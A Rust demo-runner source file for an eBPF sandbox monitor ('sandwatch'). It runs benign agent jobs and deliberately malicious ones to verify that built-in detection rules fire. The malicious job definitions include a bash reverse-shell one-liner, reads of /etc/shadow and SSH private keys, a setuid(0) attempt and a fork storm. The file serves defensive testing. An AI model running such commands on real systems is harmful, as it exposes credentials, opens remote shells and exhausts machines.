//! `cargo xtask demo`: the README's first command. It builds the release binary, then runs a few
//! everyday agent jobs and a few malicious ones, each in its own sandbox through `sandwatch run`
//! with the built-in rules (no external service), prints what each did (exit status, alerts,
//! whether a rule killed it), and ends with one table read back from the audit log.
//!
//! Everything goes to a fresh directory (`<target>/demo` by default, emptied first): the audit
//! log (`data/`), the alerts (`alerts.jsonl`, what `run --alerts` writes), the jobs' workspaces
//! and the non-root policy. Each job states what it must raise: a benign job nothing, a
//! malicious one its rules (and the kill where the rule kills); the demo fails if one does not.
//!
//! [`jobs`] and [`prepare`] are also the recorded workload of `cargo xtask bench rules`.

use std::{
    collections::{BTreeMap, BTreeSet},
    fmt::Write as _,
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
    time::Instant,
};

use anyhow::{Context as _, bail};
use arrow_array::{Array, RecordBatch, cast::AsArray, types::Int32Type};
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use serde_json::Value;

use crate::bench::target_dir;

#[derive(clap::Args, Clone, Debug)]
pub struct DemoArgs {
    /// Directory for the audit log, alerts and workspaces (emptied first) [default: <target>/demo].
    #[arg(long, value_name = "DIR")]
    pub dir: Option<PathBuf>,
    /// Use the release binary already built instead of running `cargo build --release`.
    #[arg(long)]
    pub no_build: bool,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Kind {
    Benign,
    Malicious,
}

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::Benign => "benign",
            Kind::Malicious => "malicious",
        }
    }
}

/// One job of the demo, run in its own sandbox.
pub struct Job {
    pub name: &'static str,
    pub kind: Kind,
    pub what: &'static str,
    pub argv: Vec<String>,
    /// Files put in the job's workspace first (path relative to it, content).
    pub files: Vec<(&'static str, &'static str)>,
    /// A policy file's content, instead of the `default` preset.
    pub policy: Option<&'static str>,
    /// Rules the job must raise (a benign job: none, and nothing else either).
    pub expect: Vec<&'static str>,
    /// The rule that must kill the sandbox.
    pub expect_kill: Option<&'static str>,
}

fn sh(script: &str) -> Vec<String> {
    vec!["sh".into(), "-c".into(), script.into()]
}

fn python(code: &str) -> Vec<String> {
    vec!["python3".into(), "-c".into(), code.into()]
}

const ETL_PY: &str = r#"import json, os, statistics

out = "/workspace/out"
os.makedirs(out, exist_ok=True)
for i in range(50):
    record = {"id": i, "name": f"item-{i}", "values": [i * j for j in range(10)]}
    with open(f"{out}/record-{i:03}.json", "w") as f:
        json.dump(record, f)
totals = []
for name in sorted(os.listdir(out)):
    with open(os.path.join(out, name)) as f:
        totals.append(sum(json.load(f)["values"]))
with open("/workspace/report.json", "w") as f:
    json.dump({"files": len(totals), "mean": statistics.mean(totals)}, f)
print(f"wrote and read back {len(totals)} JSON files; mean total {statistics.mean(totals):.1f}")
"#;

const PRIMES_C: &str = r#"#include <stdio.h>
#include <stdlib.h>

int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 100, count = 0;
    char *composite = calloc(n + 1, 1);
    for (int i = 2; i <= n; i++) {
        if (composite[i]) continue;
        count++;
        for (long j = (long)i * i; j <= n; j += i) composite[j] = 1;
    }
    printf("%d primes up to %d\n", count, n);
    free(composite);
    return 0;
}
"#;

/// Not a key: a stand-in for the one an agent's home would hold.
const FAKE_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nZGVtbyBrZXksIG5vdCBhIHJlYWwgb25l\n-----END OPENSSH PRIVATE KEY-----\n";

/// The fork storm's policy: the default sandbox with a small agent job's process cap.
const FORK_LIMIT_POLICY: &str = "extends: default\npids: { max: 128 }\n";

/// The non-root job's policy: the default sandbox, its command run as uid 1000.
const NON_ROOT_POLICY: &str = "extends: default\nprofile: demo-non-root\nuser: 1000\n";

/// The demo's jobs, benign first.
pub fn jobs() -> Vec<Job> {
    vec![
        Job {
            name: "python-etl",
            kind: Kind::Benign,
            what: "a Python script writes 50 JSON files, reads them back, writes a report",
            argv: vec!["python3".into(), "/workspace/etl.py".into()],
            files: vec![("etl.py", ETL_PY)],
            policy: None,
            expect: vec![],
            expect_kill: None,
        },
        Job {
            name: "c-build",
            kind: Kind::Benign,
            what: "compiles a C program with cc and runs it",
            argv: sh("cd /workspace && cc -O2 -Wall -o primes primes.c && ./primes 100000"),
            files: vec![("primes.c", PRIMES_C)],
            policy: None,
            expect: vec![],
            expect_kill: None,
        },
        Job {
            name: "git-commit",
            kind: Kind::Benign,
            what: "git init, add, commit, log",
            argv: sh("cd /workspace && git init -q repo && cd repo \
                 && printf '# demo\\n' > README.md && mkdir src && printf 'print(42)\\n' > src/main.py \
                 && git add -A && git -c user.name=agent -c user.email=agent@example.com commit -qm 'Initial commit' \
                 && git log --oneline --stat | head -4"),
            files: vec![],
            policy: None,
            expect: vec![],
            expect_kill: None,
        },
        Job {
            name: "text-tools",
            kind: Kind::Benign,
            what: "tar, grep and sed over 30 text files",
            argv: sh("cd /workspace && mkdir notes \
                 && for i in $(seq 30); do printf 'line %s TODO fix\\nline ok\\n' $i > notes/n$i.txt; done \
                 && tar czf notes.tgz notes && echo \"$(tar tzf notes.tgz | wc -l) entries archived\" \
                 && sed -i 's/TODO/DONE/' notes/*.txt && echo \"$(grep -rl DONE notes | wc -l) files edited\""),
            files: vec![],
            policy: None,
            expect: vec![],
            expect_kill: None,
        },
        Job {
            name: "read-secrets",
            kind: Kind::Malicious,
            what: "reads /etc/shadow and SSH private keys",
            argv: sh("cat /etc/shadow; head -c 36 ~/.ssh/id_ed25519; echo; cat /root/.ssh/id_rsa"),
            files: vec![(".ssh/id_ed25519", FAKE_KEY)],
            policy: None,
            expect: vec![
                "Sandbox read of password or sudoers file",
                "Sandbox read of private key",
            ],
            expect_kill: None,
        },
        Job {
            name: "tmp-binary",
            kind: Kind::Malicious,
            what: "copies a binary to /tmp and runs it from there",
            argv: sh("cp /bin/uname /tmp/.cache-helper && /tmp/.cache-helper -sr"),
            files: vec![],
            policy: None,
            expect: vec!["Sandbox program run from /tmp"],
            expect_kill: None,
        },
        Job {
            name: "reverse-shell",
            kind: Kind::Malicious,
            what: "sh -c starting bash -i redirected to /dev/tcp/127.0.0.1/4444",
            argv: sh("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"),
            files: vec![],
            policy: None,
            expect: vec!["Sandbox reverse shell one-liner"],
            expect_kill: None,
        },
        Job {
            name: "setuid-root",
            kind: Kind::Malicious,
            what: "as uid 1000, calls setuid(0), then keeps running",
            argv: python(
                "import os, time\n\
                 try:\n    os.setuid(0)\nexcept PermissionError as e:\n    print('setuid(0):', e, flush=True)\n\
                 time.sleep(30)\nprint('still running after 30 s')",
            ),
            files: vec![],
            policy: Some(NON_ROOT_POLICY),
            expect: vec!["Sandbox non-root process asked for root"],
            expect_kill: Some("Sandbox non-root process asked for root"),
        },
        Job {
            name: "connect-burst",
            kind: Kind::Malicious,
            what: "150 connection attempts to 192.0.2.0/24 (TEST-NET; no network: refused)",
            argv: python(
                "import socket\nrefused = 0\n\
                 for i in range(150):\n    s = socket.socket()\n    \
                 refused += s.connect_ex(('192.0.2.%d' % (1 + i % 254), 443)) != 0\n    s.close()\n\
                 print(refused, 'of 150 connections refused')",
            ),
            files: vec![],
            policy: None,
            expect: vec!["Sandbox outbound connection burst"],
            expect_kill: None,
        },
        Job {
            name: "fork-storm",
            kind: Kind::Malicious,
            what: "forks 400 children that stay, under a policy of at most 128 processes",
            // The children stay (a bomb's do): short-lived ones would never meet the limit.
            argv: python(
                "import os, time\n\
                 kids, refused = [], 0\n\
                 for _ in range(400):\n    try:\n        pid = os.fork()\n    except BlockingIOError:\n        refused += 1\n        continue\n    \
                 if pid == 0:\n        time.sleep(1)\n        os._exit(0)\n    kids.append(pid)\n\
                 for pid in kids:\n    os.waitpid(pid, 0)\n\
                 print(f'{len(kids)} forked, {refused} refused at the pids limit')",
            ),
            files: vec![],
            policy: Some(FORK_LIMIT_POLICY),
            expect: vec!["Sandbox fork storm"],
            expect_kill: None,
        },
    ]
}

/// Writes the job's workspace (and policy file) under `dir`; returns the `sandwatch run`
/// arguments that go before `--`.
pub fn prepare(job: &Job, dir: &Path) -> anyhow::Result<Vec<String>> {
    let ws = dir.join("workspaces").join(job.name);
    fs::create_dir_all(&ws).with_context(|| format!("creating {}", ws.display()))?;
    for (rel, content) in &job.files {
        let p = ws.join(rel);
        if let Some(parent) = p.parent() {
            fs::create_dir_all(parent).with_context(|| format!("creating {}", parent.display()))?;
            // The job runs as another uid: it reads what we put there as "other".
            fs::set_permissions(parent, fs::Permissions::from_mode(0o755))?;
        }
        fs::write(&p, content).with_context(|| format!("writing {}", p.display()))?;
        fs::set_permissions(&p, fs::Permissions::from_mode(0o644))?;
    }
    let mut args = vec![
        "--workspace".to_owned(),
        ws.display().to_string(),
        "--timeout".into(),
        "60s".into(),
    ];
    if let Some(policy) = job.policy {
        let p = dir.join(format!("{}.policy.yaml", job.name));
        fs::write(&p, policy).with_context(|| format!("writing {}", p.display()))?;
        args.extend(["--policy".into(), p.display().to_string()]);
    }
    Ok(args)
}

/// The sandbox id a job runs under.
pub fn sandbox_id(job: &Job) -> String {
    format!("demo-{}", job.name)
}

/// What `sandwatch run` said and wrote for one job.
struct JobResult {
    status: i32,
    secs: f64,
    output: Vec<String>,
    alerts: Vec<Value>,
    killed_by: Option<String>,
}

/// Alerts of `alerts.jsonl` (one JSON object per line) for `sandbox`, or all with `None`.
fn read_alerts(path: &Path, sandbox: Option<&str>) -> anyhow::Result<Vec<Value>> {
    let text = match fs::read_to_string(path) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(e).with_context(|| format!("reading {}", path.display())),
    };
    let mut out = Vec::new();
    for (i, line) in text
        .lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
    {
        let v: Value = serde_json::from_str(line)
            .with_context(|| format!("{}:{}: not a JSON alert", path.display(), i + 1))?;
        if sandbox.is_none_or(|s| v["sandbox_id"].as_str() == Some(s)) {
            out.push(v);
        }
    }
    Ok(out)
}

/// The rule a `sandwatch run` summary says killed the sandbox
/// (`sandwatch: rule "NAME" killed sandbox ID`).
fn killed_by(stderr: &str) -> Option<String> {
    stderr.lines().find_map(|l| {
        let rest = l.strip_prefix("sandwatch: rule ")?;
        let (quoted, _) = rest.split_once(" killed sandbox ")?;
        serde_json::from_str::<String>(quoted).ok()
    })
}

fn run_job(bin: &Path, dir: &Path, job: &Job) -> anyhow::Result<JobResult> {
    let data = dir.join("data");
    let alerts = dir.join("alerts.jsonl");
    let id = sandbox_id(job);
    let mut cmd = Command::new(bin);
    cmd.arg("run")
        .arg("--data")
        .arg(&data)
        .arg("--alerts")
        .arg(&alerts)
        .args(["--sandbox-id", &id])
        .args(prepare(job, dir)?)
        .arg("--")
        .args(&job.argv)
        .stdin(Stdio::null());
    if std::env::var_os("RUST_LOG").is_none() {
        // sandwatch's start-up warnings (tracepoints this kernel lacks) would repeat per job.
        cmd.env("RUST_LOG", "error");
    }
    let start = Instant::now();
    let out: Output = cmd.output().with_context(|| format!("starting {cmd:?}"))?;
    let secs = start.elapsed().as_secs_f64();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let Some(status) = out.status.code() else {
        bail!(
            "sandwatch run of {} died: {}\n{stderr}",
            job.name,
            out.status
        );
    };
    // A run that got as far as the job always ends with "... after X s (sandbox ID)"; without
    // it, sandwatch itself failed (exit 2: bad input, no BPF) and its status is not the job's.
    let ran = stderr
        .lines()
        .any(|l| l.starts_with("sandwatch: ") && l.ends_with(&format!("(sandbox {id})")));
    if !ran {
        bail!(
            "sandwatch run of job {} failed (exit {status}):\n{stderr}",
            job.name
        );
    }
    let output = stdout
        .lines()
        .chain(stderr.lines().filter(|l| !l.starts_with("sandwatch: ")))
        .filter(|l| !l.trim().is_empty())
        .map(str::to_owned)
        .collect();
    Ok(JobResult {
        status,
        secs,
        output,
        alerts: read_alerts(&alerts, Some(&id))?,
        killed_by: killed_by(&stderr),
    })
}

/// Whether a job did what it was meant to; the reasons when not.
fn check(job: &Job, r: &JobResult) -> Vec<String> {
    let fired: BTreeSet<&str> = r.alerts.iter().filter_map(|a| a["rule"].as_str()).collect();
    let mut problems = Vec::new();
    match job.kind {
        Kind::Benign if !fired.is_empty() => problems.push(format!(
            "a benign job raised {}",
            fired.iter().copied().collect::<Vec<_>>().join(", ")
        )),
        _ => {}
    }
    for rule in &job.expect {
        if !fired.contains(rule) {
            problems.push(format!("rule {rule:?} did not fire"));
        }
    }
    match (job.expect_kill, r.killed_by.as_deref()) {
        (Some(want), Some(got)) if want == got && r.status == 137 => {}
        (Some(want), got) => problems.push(format!(
            "expected rule {want:?} to kill it (status 137); killed by {got:?}, status {}",
            r.status
        )),
        (None, Some(got)) => problems.push(format!("unexpectedly killed by rule {got:?}")),
        (None, None) => {}
    }
    problems
}

fn priority_counts(alerts: &[Value]) -> BTreeMap<u8, (String, u64)> {
    let mut by: BTreeMap<u8, (String, u64)> = BTreeMap::new();
    for a in alerts {
        let p = a["priority"].as_str().unwrap_or("?").to_owned();
        by.entry(priority_rank(&p)).or_insert((p, 0)).1 += 1;
    }
    by
}

fn priority_rank(p: &str) -> u8 {
    match p {
        "emergency" => 0,
        "alert" => 1,
        "critical" => 2,
        "error" => 3,
        "warning" => 4,
        "notice" => 5,
        "informational" => 6,
        "debug" => 7,
        _ => 8,
    }
}

fn by_priority_text(alerts: &[Value]) -> String {
    priority_counts(alerts)
        .values()
        .map(|(p, n)| format!("{p} {n}"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// A rule's name without the default ruleset's "Sandbox " prefix, for narrow columns.
fn short_rule(name: &str) -> &str {
    name.strip_prefix("Sandbox ").unwrap_or(name)
}

fn print_job(i: usize, n: usize, job: &Job, r: &JobResult, problems: &[String]) {
    println!(
        "[{:>2}/{n}] {:<9} {:<14} {}",
        i + 1,
        job.kind.name(),
        job.name,
        job.what
    );
    const SHOWN: usize = 4;
    for l in r.output.iter().take(SHOWN) {
        let l: String = l.chars().take(110).collect();
        println!("        │ {l}");
    }
    if r.output.len() > SHOWN {
        let more = r.output.len() - SHOWN;
        println!(
            "        │ ... ({more} more line{})",
            if more == 1 { "" } else { "s" }
        );
    }
    let alerts = match r.alerts.len() {
        0 => "no alerts".to_owned(),
        n => format!(
            "{n} alert{} ({})",
            if n == 1 { "" } else { "s" },
            by_priority_text(&r.alerts)
        ),
    };
    let killed = match &r.killed_by {
        Some(rule) => {
            let latency = r
                .alerts
                .iter()
                .filter(|a| a["rule"].as_str() == Some(rule))
                .find_map(|a| {
                    a["actions_taken"]
                        .as_array()?
                        .iter()
                        .find(|t| t["action"] == "kill" && t["ok"] == true)?["latency_ms"]
                        .as_f64()
                });
            format!(
                " · KILLED by rule {rule:?}{}",
                latency
                    .map(|l| format!(" {l:.1} ms after the event"))
                    .unwrap_or_default()
            )
        }
        None => " · not killed".to_owned(),
    };
    let verdict = if problems.is_empty() {
        "as expected".to_owned()
    } else {
        format!("UNEXPECTED: {}", problems.join("; "))
    };
    println!(
        "        → exit {} after {:.1} s · {alerts}{killed} · {verdict}",
        r.status, r.secs
    );
    let mut seen = BTreeSet::new();
    for a in &r.alerts {
        let rule = a["rule"].as_str().unwrap_or("?");
        // One line per rule: a burst rule or a noisy job would repeat itself.
        if !seen.insert(rule.to_owned()) {
            continue;
        }
        let output: String = a["output"]
            .as_str()
            .unwrap_or("")
            .replace('\n', "⏎")
            .chars()
            .take(150)
            .collect();
        println!(
            "        ! {} {}: {output}",
            a["priority"].as_str().unwrap_or("?").to_uppercase(),
            rule
        );
    }
}

// ---------------------------------------------------------------------------------------------
// The audit log, read back

/// Every batch of `table` under `data`.
pub fn read_table(data: &Path, table: &str) -> anyhow::Result<Vec<RecordBatch>> {
    let mut files = Vec::new();
    let mut stack = vec![data.join(table)];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == "parquet")
                && !e.file_name().to_string_lossy().starts_with('.')
            {
                files.push(p);
            }
        }
    }
    files.sort();
    let mut out = Vec::new();
    for p in files {
        let f = fs::File::open(&p).with_context(|| format!("opening {}", p.display()))?;
        let reader = ParquetRecordBatchReaderBuilder::try_new(f)
            .and_then(|b| b.build())
            .with_context(|| format!("{}: not a readable Parquet file", p.display()))?;
        for b in reader {
            out.push(b.with_context(|| format!("{}: reading a row group", p.display()))?);
        }
    }
    Ok(out)
}

/// Row counts per `sandbox_id` of `table`.
pub fn rows_per_sandbox(data: &Path, table: &str) -> anyhow::Result<BTreeMap<String, u64>> {
    let mut counts = BTreeMap::new();
    for b in read_table(data, table)? {
        let ids = b
            .column_by_name("sandbox_id")
            .and_then(|c| c.as_string_opt::<i32>())
            .with_context(|| format!("{table}: no sandbox_id column of strings"))?;
        for i in 0..ids.len() {
            if ids.is_valid(i) {
                *counts.entry(ids.value(i).to_owned()).or_default() += 1;
            }
        }
    }
    Ok(counts)
}

/// How a sandbox's command ended, from its `exited` or `killed` row of `sandboxes`.
#[derive(Default)]
struct Ending {
    status: Option<i32>,
    reason: Option<String>,
}

fn endings(data: &Path) -> anyhow::Result<BTreeMap<String, Ending>> {
    let mut out: BTreeMap<String, Ending> = BTreeMap::new();
    for b in read_table(data, "sandboxes")? {
        let s = |name: &str| {
            b.column_by_name(name)
                .and_then(|c| c.as_string_opt::<i32>())
                .with_context(|| format!("sandboxes: no {name} column of strings"))
        };
        let i32s = |name: &str| {
            b.column_by_name(name)
                .and_then(|c| c.as_primitive_opt::<Int32Type>())
                .with_context(|| format!("sandboxes: no {name} column of int32"))
        };
        let (ids, events, reasons) = (s("sandbox_id")?, s("event")?, s("reason")?);
        let (codes, signals) = (i32s("exit_code")?, i32s("signal")?);
        for i in 0..b.num_rows() {
            let event = events.value(i);
            if event != "exited" && event != "killed" {
                continue;
            }
            let e = out.entry(ids.value(i).to_owned()).or_default();
            e.status = if codes.is_valid(i) {
                Some(codes.value(i))
            } else if signals.is_valid(i) {
                Some(128 + signals.value(i))
            } else {
                e.status
            };
            e.reason = Some(if reasons.is_valid(i) {
                reasons.value(i).to_owned()
            } else {
                event.to_owned()
            });
        }
    }
    Ok(out)
}

/// A plain text table, psql style: numbers right-aligned; a cell with newlines spans lines.
pub fn text_table(headers: &[&str], rows: &[Vec<String>], right: &[bool]) -> String {
    let widths: Vec<usize> = (0..headers.len())
        .map(|i| {
            rows.iter()
                .flat_map(|r| r[i].lines())
                .map(|l| l.chars().count())
                .chain([headers[i].chars().count()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let line = |cells: &[&str]| {
        let text = cells
            .iter()
            .enumerate()
            .map(|(i, c)| {
                let pad = " ".repeat(widths[i] - c.chars().count());
                if right.get(i).copied().unwrap_or(false) {
                    format!(" {pad}{c} ")
                } else {
                    format!(" {c}{pad} ")
                }
            })
            .collect::<Vec<_>>()
            .join("|");
        format!("{}\n", text.trim_end())
    };
    let mut out = line(headers);
    out.push_str(
        &widths
            .iter()
            .map(|w| "-".repeat(w + 2))
            .collect::<Vec<_>>()
            .join("+"),
    );
    out.push('\n');
    for r in rows {
        let cells: Vec<Vec<&str>> = r.iter().map(|c| c.lines().collect()).collect();
        let height = cells.iter().map(Vec::len).max().unwrap_or(0).max(1);
        for k in 0..height {
            let parts: Vec<&str> = cells
                .iter()
                .map(|c| c.get(k).copied().unwrap_or(""))
                .collect();
            out.push_str(&line(&parts));
        }
    }
    out
}

const EVENT_TABLES: [(&str, &str); 4] = [
    ("process_events", "process"),
    ("file_events", "file"),
    ("network_events", "network"),
    ("syscall_events", "syscall"),
];

/// The closing table: one row per sandbox, from the audit log and the alerts file.
fn summary(dir: &Path, jobs: &[Job]) -> anyhow::Result<String> {
    let data = dir.join("data");
    let endings = endings(&data)?;
    let mut counts = Vec::new();
    for (table, _) in EVENT_TABLES {
        counts.push(rows_per_sandbox(&data, table)?);
    }
    let alerts = read_alerts(&dir.join("alerts.jsonl"), None)?;
    let lost: u64 = read_table(&data, "drops")?
        .iter()
        .filter_map(|b| b.column_by_name("count"))
        .map(|c| {
            let c = c.as_primitive::<arrow_array::types::UInt64Type>();
            c.iter().flatten().sum::<u64>()
        })
        .sum();

    let mut headers = vec!["job", "kind", "exit", "end"];
    headers.extend(EVENT_TABLES.iter().map(|(_, short)| *short));
    headers.extend(["alerts", "rules fired", "killed by rule"]);
    let right = [
        false, false, true, false, true, true, true, true, false, false, false,
    ];
    let mut rows = Vec::new();
    let mut totals = [0u64; 4];
    for job in jobs {
        let id = sandbox_id(job);
        let ending = endings.get(&id);
        let mine: Vec<Value> = alerts
            .iter()
            .filter(|a| a["sandbox_id"].as_str() == Some(&id))
            .cloned()
            .collect();
        let rules: BTreeSet<&str> = mine
            .iter()
            .filter_map(|a| a["rule"].as_str())
            .map(short_rule)
            .collect();
        let killer: BTreeSet<&str> = mine
            .iter()
            .filter(|a| {
                a["actions_taken"]
                    .as_array()
                    .is_some_and(|t| t.iter().any(|t| t["action"] == "kill" && t["ok"] == true))
            })
            .filter_map(|a| a["rule"].as_str())
            .map(short_rule)
            .collect();
        let mut row = vec![
            job.name.to_owned(),
            job.kind.name().to_owned(),
            ending
                .and_then(|e| e.status)
                .map_or("?".into(), |s| s.to_string()),
            ending
                .and_then(|e| e.reason.clone())
                .unwrap_or_else(|| "?".into()),
        ];
        for (k, c) in counts.iter().enumerate() {
            let n = c.get(&id).copied().unwrap_or(0);
            totals[k] += n;
            row.push(n.to_string());
        }
        row.push(by_priority_text(&mine));
        row.push(rules.into_iter().collect::<Vec<_>>().join("\n"));
        row.push(killer.into_iter().collect::<Vec<_>>().join("\n"));
        rows.push(row);
    }
    let mut total = vec![
        format!("{} jobs", jobs.len()),
        String::new(),
        String::new(),
        String::new(),
    ];
    total.extend(totals.iter().map(u64::to_string));
    total.push(by_priority_text(&alerts));
    rows.push(total);
    total_row_fill(&mut rows, headers.len());

    let mut out = String::new();
    let _ = writeln!(
        out,
        "What happened, read back from the audit log ({}: the sandboxes table and the four event tables) \
         and the alerts file ({}):\n",
        data.display(),
        dir.join("alerts.jsonl").display()
    );
    let _ = writeln!(
        out,
        "  -- one row per sandbox (demo-<job>): its exit_code and reason from sandboxes, count(*) of its rows in \
         process_events, file_events, network_events, syscall_events, its alerts by priority, the rules they \
         came from, and the rule whose kill action ended it\n"
    );
    out.push_str(&text_table(&headers, &rows, &right));
    let _ = writeln!(
        out,
        "\n({} rows of events; records lost: {lost}, from the drops table)",
        totals.iter().sum::<u64>()
    );
    Ok(out)
}

/// Pads short rows (the totals) to `n` cells.
fn total_row_fill(rows: &mut [Vec<String>], n: usize) {
    for r in rows {
        r.resize(n, String::new());
    }
}

// ---------------------------------------------------------------------------------------------

/// Builds the release `sandwatch` (unless `no_build`) and returns its path.
pub fn release_binary(no_build: bool, progress: impl Fn(&str)) -> anyhow::Result<PathBuf> {
    if !no_build {
        progress("building sandwatch (release)");
        crate::run(crate::cargo().args([
            "build",
            "--release",
            "-p",
            "sandwatch",
            "--bin",
            "sandwatch",
        ]))?;
    }
    let bin = target_dir().join("release/sandwatch");
    if !bin.exists() {
        bail!(
            "{} is missing (build it with `cargo build --release`)",
            bin.display()
        );
    }
    Ok(bin)
}

pub fn run(args: DemoArgs) -> anyhow::Result<()> {
    let started = Instant::now();
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        bail!("the demo loads eBPF programs and creates cgroups: run `cargo xtask demo` as root");
    }
    let bin = release_binary(args.no_build, |m| eprintln!("xtask demo: {m}"))?;
    let dir = args.dir.unwrap_or_else(|| target_dir().join("demo"));
    match fs::remove_dir_all(&dir) {
        Ok(()) => {}
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
        Err(e) => return Err(e).with_context(|| format!("emptying {}", dir.display())),
    }
    fs::create_dir_all(&dir).with_context(|| format!("creating {}", dir.display()))?;
    let jobs = jobs();
    let run_started = Instant::now();
    println!(
        "sandwatch demo: {} jobs, each in its own sandbox (`sandwatch run --data {} --alerts {}`), \
         built-in rules, no network\n",
        jobs.len(),
        dir.join("data").display(),
        dir.join("alerts.jsonl").display()
    );
    let mut failures = Vec::new();
    for (i, job) in jobs.iter().enumerate() {
        let r = run_job(&bin, &dir, job)?;
        let problems = check(job, &r);
        print_job(i, jobs.len(), job, &r, &problems);
        if !problems.is_empty() {
            failures.push(format!("{}: {}", job.name, problems.join("; ")));
        }
    }
    println!();
    print!("{}", summary(&dir, &jobs)?);
    let data = dir.join("data");
    println!(
        "\nJobs ran in {:.1} s ({:.1} s in all with the build). Next, replay the log through rules of your own \
         (nothing is killed):\n  {} rules test --data {} builtin my_rules.yaml\nor query it with DuckDB:\n  \
         duckdb -c \"select sandbox_id, comm, event, path from '{}/file_events/**/*.parquet' where path like '/etc/%'\"",
        run_started.elapsed().as_secs_f64(),
        started.elapsed().as_secs_f64(),
        bin.display(),
        data.display(),
        data.display()
    );
    if !failures.is_empty() {
        bail!(
            "{} job(s) did not behave as expected:\n  {}",
            failures.len(),
            failures.join("\n  ")
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_the_killing_rule_from_the_summary() {
        let stderr = "sandwatch: python3 was killed by a rule (status 137) after 0.31 s (sandbox demo-x)\n\
                      sandwatch: 1 alert (critical 1), written to a.jsonl\n\
                      sandwatch: rule \"Sandbox non-root process asked for root\" killed sandbox demo-x\n";
        assert_eq!(
            killed_by(stderr).as_deref(),
            Some("Sandbox non-root process asked for root")
        );
        assert_eq!(killed_by("sandwatch: no alerts\n"), None);
    }

    #[test]
    fn tables_align() {
        let t = text_table(
            &["a", "n"],
            &[
                vec!["xyz".into(), "5".into()],
                vec!["b".into(), "123".into()],
            ],
            &[false, true],
        );
        assert_eq!(t, " a   |   n\n-----+-----\n xyz |   5\n b   | 123\n");
        let t = text_table(
            &["a", "b"],
            &[vec!["x\ny".into(), "1".into()]],
            &[false, true],
        );
        assert_eq!(t, " a | b\n---+---\n x | 1\n y |\n");
    }

    #[test]
    fn every_malicious_job_expects_a_rule_and_benign_ones_none() {
        let jobs = jobs();
        for j in &jobs {
            match j.kind {
                Kind::Benign => {
                    assert!(j.expect.is_empty() && j.expect_kill.is_none(), "{}", j.name)
                }
                Kind::Malicious => assert!(!j.expect.is_empty(), "{}", j.name),
            }
            assert!(
                sandwatch_runner::sandbox::valid_id(&sandbox_id(j)),
                "{}",
                j.name
            );
        }
        // The default rules that the jobs expect exist under these names.
        let names: BTreeSet<&str> = jobs.iter().flat_map(|j| j.expect.iter().copied()).collect();
        for n in names {
            assert!(
                sandwatch_rules::DEFAULT_RULES.contains(&format!("- rule: {n}\n")),
                "{n} is not a default rule"
            );
        }
    }
}
